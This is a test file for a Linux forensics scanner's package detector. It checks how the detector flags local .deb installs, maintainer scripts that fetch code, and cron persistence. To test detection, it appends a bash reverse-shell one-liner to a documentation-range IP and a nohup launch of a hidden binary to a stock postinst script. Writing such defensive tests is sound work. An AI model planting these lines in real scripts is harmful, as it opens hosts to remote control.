import { appendFileSync, utimesSync } from 'node:fs';
import { join } from 'node:path';
import { AptHistory, localInstalls, packages, parseDpkgLogLine } from '../../src/scan/detectors/packages.js';
import { cron } from '../../src/scan/detectors/cron.js';
import { PERSIST, atLeast, runOn, tempCopy } from '../helpers/persist.js';

function history(text: string): AptHistory {
  const h = new AptHistory();
  for (const l of text.split('\n')) h.line(l);
  h.finish();
  return h;
}

describe('packages detector', () => {
  it('reads dpkg.log installs and upgrades', () => {
    expect(parseDpkgLogLine('2025-11-20 03:14:07 install sysupdate:amd64 <none> 2.1', 7)).toMatchObject({ time: '2025-11-20 03:14:07', action: 'install', pkg: 'sysupdate', version: '2.1', line: 7 });
    expect(parseDpkgLogLine('2025-06-10 06:25:12 upgrade logrotate:amd64 1.0-1 1.0-2')).toMatchObject({ pkg: 'logrotate', version: '1.0-2' });
    expect(parseDpkgLogLine('2025-06-10 06:25:13 status installed logrotate:amd64 1.0-2')).toBeNull();
  });

  it('tells apt installs from dpkg -i and from apt install ./x.deb; the base system before apt is left out', () => {
    const h = history(
      [
        'Start-Date: 2025-03-01  09:10:00',
        'Commandline: apt-get install -y sudo',
        'Install: sudo:amd64 (1.0-1), libaudit1:amd64 (1:3.0.9-1, automatic)',
        'End-Date: 2025-03-01  09:10:05',
        '',
        'Start-Date: 2025-04-02  10:00:00',
        'Commandline: apt install ./agent_3.2_amd64.deb',
        'Install: agent:amd64 (3.2), libcurl4:amd64 (7.88.1-10, automatic)',
        'End-Date: 2025-04-02  10:00:09',
      ].join('\n'),
    );
    const d = (line: string) => ({ install: parseDpkgLogLine(line)!, path: '/var/log/dpkg.log' });
    const local = localInstalls(
      [
        d('2025-03-01 09:00:01 install base-files:amd64 <none> 1.0-1'),
        d('2025-03-01 09:10:01 install sudo:amd64 <none> 1.0-1'),
        d('2025-04-02 10:00:03 install agent:amd64 <none> 3.2'),
        d('2025-04-02 10:00:04 install libcurl4:amd64 <none> 7.88.1-10'),
        d('2025-05-05 22:01:00 install netd:amd64 <none> 0.1'),
      ],
      h,
    );
    expect(local.map((l) => l.install.pkg).sort()).toEqual(['agent', 'netd']);
    expect(local.find((l) => l.install.pkg === 'agent')!.how).toMatch(/\.deb file/);
  });

  it('benign: installs apt made, the base system, a stock maintainer script: nothing', async () => {
    const res = await runOn(packages, `${PERSIST}/packages/benign`);
    expect(res.findings).toEqual([]);
  });

  it('malicious: a package installed with dpkg -i whose postinst fetches code; a cron job re-running it', async () => {
    const res = await runOn(packages, `${PERSIST}/packages/malicious`);
    expect(res.findings.map((f) => [f.rule, f.path, f.severity]).sort()).toEqual([
      ['packages.fetch-exec', '/var/lib/dpkg/info/sysupdate.postinst', 'critical'],
      ['packages.local-deb', '/var/log/dpkg.log', 'medium'],
    ]);
    expect(res.findings.find((f) => f.rule === 'packages.local-deb')).toMatchObject({ line: 13, attack: 'T1546.016' });
    const c = await runOn(cron, `${PERSIST}/packages/malicious`);
    expect(atLeast(c, 'critical').map((f) => [f.rule, f.path])).toEqual([['cron.maintainer-script', '/etc/cron.d/sysupdate']]);
  });

  it("the local package's scripts are read on a quick scan; every package's only with --deep", async () => {
    const quick = await runOn(packages, `${PERSIST}/packages/malicious`, { deep: false });
    expect(quick.findings.map((f) => f.rule).sort()).toEqual(['packages.fetch-exec', 'packages.local-deb']);
    const { root, cleanup } = tempCopy(`${PERSIST}/packages/benign`);
    try {
      // a stock script with a reverse shell appended: critical whoever owns it, but only --deep walks every script
      appendFileSync(join(root, 'var/lib/dpkg/info/cron.postinst'), 'bash -i >& /dev/tcp/198.51.100.5/4444 0>&1 &\n');
      expect((await runOn(packages, root, { deep: false })).findings).toEqual([]);
      expect((await runOn(packages, root)).findings.map((f) => [f.rule, f.severity])).toEqual([['packages.reverse-shell', 'critical']]);
    } finally {
      cleanup();
    }
  });

  it('weaker signals count in a stock script only when it changed after unpacking, and stay below high', async () => {
    const { root, cleanup } = tempCopy(`${PERSIST}/packages/benign`);
    try {
      const script = join(root, 'var/lib/dpkg/info/cron.postinst');
      appendFileSync(script, 'nohup /var/tmp/.u/x >/dev/null 2>&1 &\n');
      // as unpacked (same mtime as the package's md5sums): our rule's guess, not reported
      const t = new Date('2025-03-01T09:00:03Z');
      utimesSync(script, t, t);
      utimesSync(join(root, 'var/lib/dpkg/info/cron.md5sums'), t, t);
      expect((await runOn(packages, root)).findings).toEqual([]);
      // changed later: reported, medium at most
      utimesSync(script, new Date('2025-11-20T03:20:00Z'), new Date('2025-11-20T03:20:00Z'));
      const res = await runOn(packages, root);
      expect(res.findings.map((f) => [f.rule, f.severity])).toEqual([['packages.writable-dir', 'medium']]);
      expect(res.findings[0]!.reason).toMatch(/changed after its package was unpacked/);
    } finally {
      cleanup();
    }
  });
});
